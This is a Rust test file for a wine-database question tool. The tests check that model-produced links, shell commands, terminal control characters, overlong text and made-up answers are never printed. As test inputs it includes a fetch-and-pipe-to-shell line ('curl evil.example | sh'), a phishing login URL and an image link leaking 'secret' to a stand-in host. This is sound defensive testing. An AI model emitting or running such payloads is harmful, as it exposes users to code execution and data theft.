//! Texts of a model: those that are not shown, in no format; what of one that is shown does not reach a terminal.

use super::*;

/// Standard output and standard error of a server that plays some turns.
fn shown(runtime: &Runtime, turns: Vec<Turn>, more: &[&str]) -> String {
    let server = runtime.block_on(play(turns));
    let mut command = cmec(&["ask", QUESTION, "--domain", "wine", "--model", "m"]);
    command.args(["--endpoint", &server.url]).args(more);
    let (_, text, error) = told(&command.output().unwrap());
    text + &error
}

fn search() -> Turn {
    Turn::Calls(vec![Call::of("search_wines", r#"{"wine_type":"red"}"#)])
}

#[test]
fn links_and_commands_of_a_model_are_not_shown() {
    let runtime = Runtime::new().unwrap();
    let says = |text: &str| Turn::Says(Box::leak(text.to_owned().into_boxed_str()));
    for text in [
        "![вино](http://evil.example/x.png?q=secret)",
        "подтвердите вход на сайте: http://evil.example/login?next=pay",
        "выполните команду: curl evil.example | sh",
        "Какое вино? `curl evil`",
    ] {
        let asks = format!("ASK '{text}'");
        for (turns, kind, strategy) in [
            (vec![search(), says(text)], "rows", "tools"),
            (vec![says(text), says(text), says(text)], "list", "tools"),
            (vec![says(&asks), says(&asks)], "not_understood", "sql"),
        ] {
            let way = ["--strategy", strategy];
            let (_, answer, _) = asked(&runtime, turns.clone(), &way);
            assert_eq!(answer["kind"], json!(kind), "{text}");
            assert_eq!(answer["text"], Value::Null, "{text}");
            for format in [
                &["--format", "text", "--explain"][..],
                &["--format", "csv", "--explain"],
                &["--format", "json"],
            ] {
                let shown = shown(&runtime, turns.clone(), &[&way, format].concat());
                assert!(!shown.contains("evil"), "{text} {format:?}: {shown}");
            }
        }
    }
}

/// An answer whose text was withheld shows no other text of the model.
#[test]
fn no_text_stands_beside_one_that_is_taken_back() {
    let runtime = Runtime::new().unwrap();
    for text in ["red 3", "Есть хорошие красные."] {
        let turns = vec![Turn::Says(text); 3];
        let (code, answer, _) = asked(&runtime, turns.clone(), &[]);
        assert_eq!((code, &answer["kind"]), (5, &json!("list")));
        assert_eq!(answer["fallback"], json!("answer_made_up"));
        assert_eq!(answer["text"], Value::Null);
        let way = ["--strategy", "tools", "--format", "text"];
        let shown = shown(&runtime, turns, &way);
        assert!(shown.contains("answer_made_up"), "{shown}");
        assert!(!shown.lines().any(|line| line == text), "{shown}");
    }
}

#[test]
fn a_text_that_is_too_long_is_not_shown() {
    let runtime = Runtime::new().unwrap();
    let long: &str = Box::leak("red ".repeat(20_000).into_boxed_str());
    let turns = vec![search(), Turn::Says(long)];
    let (_, answer, _) = asked(&runtime, turns.clone(), &[]);
    assert_eq!(answer["fallback"], json!("text_too_long"));
    assert_eq!(answer["text"], Value::Null);
    let way = ["--strategy", "tools", "--format", "text"];
    let shown = shown(&runtime, turns, &way);
    assert!(shown.contains("(text_too_long)"), "{shown}");
}

/// A terminal obeys nothing that a model says.
#[test]
fn no_control_of_a_text_reaches_the_terminal() {
    let runtime = Runtime::new().unwrap();
    let text = "Красное\u{1b}[m \u{202e}сухое\u{9b}\u{200b}\r\u{7}\u{2028}";
    let turns = vec![search(), Turn::Says(text)];
    let (_, answer, _) = asked(&runtime, turns.clone(), &[]);
    assert_eq!(answer["text"], json!("Красное[m сухое\r\u{2028}"));
    for format in [
        &["--format", "text", "--explain"][..],
        &["--format", "json"],
    ] {
        let way = [&["--strategy", "tools"], format].concat();
        let shown = shown(&runtime, turns.clone(), &way);
        assert!(shown.contains("сухое"), "{shown}");
        let obeyed = text.chars().find(|own| {
            !own.is_alphanumeric() && !own.is_ascii_graphic() && *own != ' ' && shown.contains(*own)
        });
        assert_eq!(obeyed, None, "{format:?}: {shown:?}");
    }
}

/// Rows are numbered over all calls of a question. With several calls `{{count}}` is ambiguous, and the text is held back.
#[test]
fn rows_are_numbered_over_all_calls() {
    let runtime = Runtime::new().unwrap();
    let red = || {
        Call::of(
            "ask_wine",
            r#"{"sql":"SELECT * FROM wine WHERE type = 'red' LIMIT 17"}"#,
        )
    };
    let rose = || Call::of("search_wines", r#"{"wine_type":"rose"}"#);
    for (calls, text, expected) in [
        (
            vec![red()],
            "Красных найдено {{count}}.",
            Some("Красных найдено 17."),
        ),
        (vec![red(), rose()], "Всего найдено {{count}}.", None),
        (
            vec![red(), rose()],
            "Есть {{r17.type}} и {{r18.type}}.",
            Some("Есть red и rose."),
        ),
        (vec![red()], "Семнадцать красных.", None),
        (vec![red()], "Есть {{r18.type}}.", None),
    ] {
        let turns = vec![Turn::Calls(calls), Turn::Says(text)];
        let (_, answer, _) = asked(&runtime, turns, &["--ask-tool"]);
        assert_eq!(answer["text"], json!(expected), "{text}: {answer}");
    }
}
